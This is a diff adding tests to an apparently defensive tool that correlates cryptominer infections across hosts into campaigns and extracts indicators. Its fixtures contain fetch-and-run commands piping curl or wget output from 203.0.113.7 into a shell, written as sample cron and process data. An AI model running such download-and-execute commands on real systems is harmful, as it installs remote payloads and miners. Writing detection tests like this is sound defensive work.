@@ -129,3 +129,49 @@ def test_a_new_key_that_came_with_the_miners_and_is_nowhere_else_joins(
     assert told(report) == ([["h0", "h1", "h2"]] if is_one else [])
     if is_one:
         assert {"kind": "key", "value": "SHA256:new", "hosts": 3} in report["campaigns"][0]["shared"]
+
+
+def test_a_dropper_and_its_miner_on_the_same_hosts_are_one_campaign_and_told_by_the_miner(tmp_path: Path, names: Names) -> None:
+    """Nothing is in both, but they came to the same hosts within minutes."""
+
+    def logged(folder: Path, apart: int) -> list[dict[str, Any]]:
+        lines = []
+        for number, host in enumerate(("a", "b", "c")):
+            came = T + number * HOUR
+            process = {"pid": "8", "start_time": str(came), "exe_path": "/tmp/.migo", "evidence": "x"}
+            for n, (when, action) in enumerate(((came, "added"), (came + 1200, "removed")), 1):
+                lines.append(line("odd_place_program", n, when, action, host, exe_sha256="d" * 64, **process))
+                job = {"command": "curl -s http://203.0.113.7/m | sh; /tmp/.migo", "path": f"/etc/cron.d/{host}", "evidence": "x"}
+                lines.append(line("cron_download_and_run", n, when, action, host, **job))
+            mines = {"exe_path": "/usr/local/x", "exe_sha256": "e" * 64, "pool": "203.0.113.9:443"}
+            lines.append(miner(host, came + apart, logged=came + apart, **mines))
+        folder.mkdir()
+        campaigns: list[dict[str, Any]] = reported(folder, names, lines)["campaigns"]
+        return campaigns
+
+    (campaign,) = logged(tmp_path / "minutes", 600)
+    assert [host["host"] for host in campaign["hosts"]] == ["a", "b", "c"]
+    assert "mines at 203.0.113.9:443" in campaign["sentence"]["en"]
+    assert len(logged(tmp_path / "days", 3 * DAY)) == 2
+
+
+def test_what_a_shell_that_is_gone_fetched_is_hunted_for(tmp_path: Path, names: Names) -> None:
+    lines = []
+    for host in ("a", "b"):
+        shell = {"pid": "9", "start_time": str(T), "exe_path": "/usr/bin/dash", "evidence": "x"}
+        shell["cmdline"] = "bash -c (curl -s 203.0.113.7/cf.sh||wget -q -O- 203.0.113.7/cf.sh)|bash"
+        lines += [line("service_account_shell", n, T + n * 600, ("", "added", "removed")[n], host, **shell) for n in (1, 2)]
+        lines.append(miner(host, T + 60, wallet="4w", parent="9", parent_name="dash", cmdline="/tmp/x 203.0.113.7/cf.sh"))
+    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
+    assert ("address", "203.0.113.7") in {(each["kind"], each["value"]) for each in campaign["indicators"]}
+
+
+def test_the_image_of_a_container_that_stands_open_is_no_indicator(tmp_path: Path, names: Names) -> None:
+    lines = []
+    for number, host in enumerate(("a", "b", "c")):
+        agent = {"container_id": f"{number:064}", "container_name": "agent", "image": "registry.example/infra/agent:3"}
+        lines.append(line("container_reaches_host", 0, T - DAY, "added", host, reasons="privileged", evidence="x", **agent))
+        lines.append(line("containers", 0, T - DAY, "added", host, **agent))
+        lines.append(miner(host, T + number, wallet="4w"))
+    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
+    assert {each["kind"] for each in campaign["indicators"]} == {"wallet"}
